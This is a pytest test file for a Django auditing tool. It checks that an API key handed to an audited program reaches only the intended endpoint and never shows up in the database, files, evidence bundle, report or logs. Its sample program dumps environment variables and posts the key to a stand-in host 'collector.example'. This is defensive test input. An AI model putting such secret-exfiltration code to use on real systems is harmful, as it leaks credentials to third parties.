"""The audited code never holds a key, and nothing that is kept shows one."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection

from audits.models import Report, Run
from audits.procedures.concluding import write_run_bundle
from audits.procedures.credentials import find_credentials, read_credentials
from audits.procedures.lifecycle import AuditFailed
from audits.reporting.context.build import build_context, context_bytes
from compliance.engine.library import Library
from tests.capture.unpacking import unpacked
from tests.procedures.conftest import Lab

KEY = "sk-live-0nlyTheFarEndMayEverSeeTh1s"
NAME = "OPENAI_API_KEY"
MAIN = """
    import os, subprocess
    print(dict(os.environ))
    print(subprocess.run(["env"], capture_output=True, text=True).stdout)
    print(post({"model": "m", "messages": []}))
    try:
        print(post({"model": "m", "messages": [], "stolen": os.environ["OPENAI_API_KEY"]}, host="collector.example"))
    except Exception as error:
        print(error)
    write("out/train.jsonl", [{"key": os.environ["OPENAI_API_KEY"]}])
"""


class Echo(BaseHTTPRequestHandler):
    """Says back, in its body and its headers, what it was given."""

    seen: list[tuple[str, str, str]]

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["content-length"])).decode()
        key = self.headers.get("Authorization", "")
        type(self).seen.append((self.headers["Host"], key, body))
        content = json.dumps({"id": key, "choices": [{"index": 0, "message": {"role": "assistant", "content": key}}]})
        self.send_response(200)
        self.send_header("X-Said-Back", key)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content.encode())

    def log_message(self, *args: object) -> None:
        """Quiet."""


@pytest.fixture
def echo() -> Iterator[str]:
    Echo.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


def everything_in_the_database() -> str:
    rows = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f'SELECT row_to_json(t)::text FROM "{table}" t')
            rows += [f"{table}: {row[0]}" for row in cursor.fetchall()]
    return "\n".join(rows)


def on_disk(folder: Path) -> Iterator[tuple[str, bytes]]:
    for path in folder.rglob("*"):
        if path.is_file() and not path.is_symlink() and "postgres" not in path.parts:
            for data in [path.read_bytes(), *unpacked(path)]:
                yield str(path), data


@pytest.mark.usefixtures("without_paper")
def test_the_far_end_sees_the_key_and_nothing_that_is_kept_shows_it(
    lab: Lab, echo: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv(NAME, KEY)
    run = lab.audit(MAIN, upstreams={"api.openai.com": echo, "collector.example": echo})
    assert run.state == Run.State.COMPLETED, run.reason
    (_, meant, _), (other, stolen, body) = Echo.seen
    assert meant == f"Bearer {KEY}"
    assert other == "collector.example"
    assert KEY not in stolen + body
    assert run.gaps.filter(kind="secret_withheld", subject="collector.example").exists()
    needle = KEY.encode()
    assert KEY not in everything_in_the_database()
    bundle = tmp_path / "evidence.zip"
    write_run_bundle(run, bundle)
    kept = [*on_disk(Path(settings.VAR_DIR) / "runs"), *on_disk(Path(settings.EVIDENCE_URL.removeprefix("file://")))]
    assert len(kept) > 10
    assert [name for name, data in [*kept, ("bundle", bundle.read_bytes())] if needle in data] == []
    report = Report(run=run, number=1)
    assert needle not in context_bytes(build_context(report))
    assert "[masked]" in lab.log(run)


def test_a_file_of_keys_is_read_when_its_owner_alone_may_read_it(tmp_path: Path, library: Library) -> None:
    file = tmp_path / "credentials.toml"
    file.write_text(f'[{NAME}]\nvalue = "{KEY}"\nhosts = ["Gateway.example"]\n')
    file.chmod(0o640)
    with pytest.raises(AuditFailed, match="chmod 600"):
        read_credentials(file)
    file.chmod(0o600)
    found, missing = find_credentials((NAME, "NOBODY_KNOWS"), library, file)
    assert [(one.value, one.hosts) for one in found.secrets] == [(KEY, ("gateway.example",))]
    assert missing == ["NOBODY_KNOWS"]
    assert KEY not in str(found.variables)


def test_a_broken_file_of_keys_is_not_quoted(tmp_path: Path) -> None:
    file = tmp_path / "credentials.toml"
    file.touch(0o600)
    file.write_text(f"[{NAME}\nvalue = {KEY}\n")
    with pytest.raises(AuditFailed) as told:
        read_credentials(file)
    assert KEY not in str(told.value)
    file.write_text(f'{NAME} = "{KEY}"\n')
    with pytest.raises(AuditFailed) as told:
        read_credentials(file)
    assert KEY not in str(told.value)
